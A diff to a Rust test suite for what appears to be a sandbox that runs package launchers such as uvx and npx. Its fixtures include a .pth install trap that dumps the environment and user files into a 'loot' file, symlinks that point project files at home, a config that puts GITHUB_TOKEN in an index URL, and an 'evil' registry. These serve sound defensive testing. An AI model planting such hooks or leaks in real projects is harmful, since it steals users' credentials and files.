@@ -52,7 +52,7 @@ impl Victim {
         format!(
             "touch {root}/{OUTSIDE}/ran {home}/ran {root}/here/ran {home}/.npm/ran {home}/.cache/uv/ran 2>/dev/null
              for cache in \"$npm_config_cache\" \"$UV_CACHE_DIR\" \"$PIPX_HOME\"; do if test -d \"$cache\"; then
-             {{ echo ran; env; cat {home}/diary {root}/here/source.txt {home}/.npm/of-the-user; }} >> \"$cache/loot\" 2>&1; fi; done"
+             {{ echo ran; env; cat {home}/diary {root}/here/source.txt {home}/.npm/of-the-user {root}/here/uv.lock {root}/here/pip.conf; }} >> \"$cache/loot\" 2>&1; fi; done"
         )
     }
 
@@ -64,8 +64,9 @@ impl Victim {
     }
 
     fn doctor(&self, flags: &[&str], command: &[&str]) -> Outcome {
-        let words: Vec<&str> =
-            ["doctor"].iter().chain(flags).chain(&["--"]).chain(command).copied().collect();
+        // Without one, the project's own file names it.
+        let behind: &[&str] = if command.is_empty() { &[] } else { &["--"] };
+        let words = [&["doctor"], flags, behind, command].concat();
         let mut run = self.way.command(&self.world, &words);
         run.env("GITHUB_TOKEN", TOKEN).env("DATABASE_URL", format!("postgres://me:{TOKEN}@db/x"));
         self.world.finish(run)
@@ -282,6 +283,95 @@ fn a_project_whose_version_of_python_is_a_program_runs_nothing_outside() {
         victim.is_unharmed(&outcome);
         assert_eq!(victim.loot(), "", "nothing of it runs at all");
     });
+}
+
+/// Was open, also long after that build: links in a project led to what lies outside of it, and where they led could be read
+/// and sent away, whatever the user had typed.
+#[test]
+fn links_in_a_project_show_nothing_to_what_runs_while_it_is_fetched() {
+    let Some(program) = found("uv") else { return };
+    victims(|victim, flags| {
+        uv(victim, &program);
+        wheel(victim, "pkg.pth", &python_trap(victim));
+        let here = victim.world.here();
+        for (link, target) in
+            [("uv.lock", "../home/diary"), ("pip.conf", "../home/diary"), ("more", "../home")]
+        {
+            symlink(target, here.join(link)).unwrap();
+        }
+        let outcome = victim.doctor(flags, &UVX);
+        victim.is_unharmed(&outcome);
+        assert!(victim.loot().starts_with("ran\n"), "{:?}: {outcome}", victim.loot());
+        let command = ["uvx", "--no-index", "--find-links", "wheels", "--find-links", "more", "pkg"];
+        victim.is_unharmed(&victim.doctor(flags, &command));
+    });
+}
+
+/// Was open, also long after that build: a file of the project named what is the user's own, and it was there where packages
+/// are fetched, with the machine's network.
+#[test]
+fn a_file_of_the_project_brings_nothing_of_the_user_to_where_packages_are_fetched() {
+    let Some(program) = found("uv") else { return };
+    victims(|victim, flags| {
+        uv(victim, &program);
+        wheel(victim, "pkg.pth", &python_trap(victim));
+        let (here, home) = (victim.world.here(), victim.home().display().to_string());
+        let write = |args: &str| {
+            let env = format!(
+                "LOOT = \"${{GITHUB_TOKEN}}\", PIP_CONFIG_FILE = \"{home}/diary\", PYTHONPATH = \"{home}\", PATH = \"{home}:${{PATH}}\""
+            );
+            let target = format!(
+                "[target]\ncommand = \"uvx\"\nargs = [{args}\"pkg\"]\nenv = {{ {env} }}\nenv_pass = [\"DATABASE_URL\"]\n"
+            );
+            fs::write(here.join("wallfacer.toml"), target).unwrap();
+        };
+        let wheels = "\"--no-index\", \"--find-links\", \"wheels\", ";
+        write(&format!("{wheels}\"--find-links\", \"{home}\", "));
+        let outcome = victim.doctor(flags, &[]);
+        victim.is_unharmed(&outcome);
+        assert!(victim.loot().starts_with("ran\n"), "{:?}: {outcome}", victim.loot());
+        let told = "the server gets the real DATABASE_URL, GITHUB_TOKEN, by ./wallfacer.toml";
+        assert!(outcome.stderr.contains(told), "{outcome}");
+        // Nor does it tell an index: nothing is asked of one then.
+        write(&format!("{wheels}\"--extra-index-url\", \"http://127.0.0.1:9/${{GITHUB_TOKEN}}/\", "));
+        let ran = victim.loot();
+        let outcome = victim.doctor(flags, &[]);
+        victim.is_unharmed(&outcome);
+        assert_eq!(victim.loot(), ran, "nothing of it runs at all: {outcome}");
+    });
+}
+
+/// Held, and not in the review. Where all of a project is to be seen, nothing of its packages runs.
+#[test]
+fn what_a_project_needs_does_not_run_where_the_project_is_seen() {
+    let Some(program) = found("uv") else { return };
+    victims(|victim, flags| {
+        uv(victim, &program);
+        wheel(victim, "pkg.pth", &python_trap(victim));
+        let project = "[project]\nname = \"app\"\nversion = \"1\"\ndependencies = [\"pkg\"]\n\
+                       [tool.uv]\nno-index = true\nfind-links = [\"wheels\"]\n";
+        fs::write(victim.world.here().join("pyproject.toml"), project).unwrap();
+        let outcome = victim.doctor(flags, &["uv", "run", "pkg"]);
+        victim.is_unharmed(&outcome);
+        assert_eq!(victim.loot(), "", "nothing of it runs at all");
+        assert_eq!(outcome.code, Some(0), "{outcome}");
+    });
+}
+
+/// Was open, also long after that build: packages that one project had fetched from a place of its own were those of the
+/// same command elsewhere, for ever where the version was exact.
+#[test]
+fn what_is_fetched_from_elsewhere_is_for_that_project_alone() {
+    let victim = Victim::new(ways()[0]);
+    hostile_launcher(&victim);
+    let settings = victim.world.here().join(".npmrc");
+    fs::write(&settings, "registry=http://127.0.0.1:9/evil/\n").unwrap();
+    victim.doctor(&[], &["npx", "-y", "pkg@1.2.3"]);
+    fs::remove_file(&settings).unwrap();
+    victim.doctor(&[], &["npx", "-y", "pkg@1.2.3"]);
+    victim.doctor(&["--env", "npm_config_registry=http://127.0.0.1:9/evil/"], &["npx", "-y", "pkg@1.2.3"]);
+    let stores = fs::read_dir(victim.home().join(".cache/wallfacer/fetched")).unwrap().count();
+    assert_eq!(stores, 3);
 }
 
 /// New. pipx leaves the work to uv where that is there, so the `.pth` file runs: where it harms nothing.
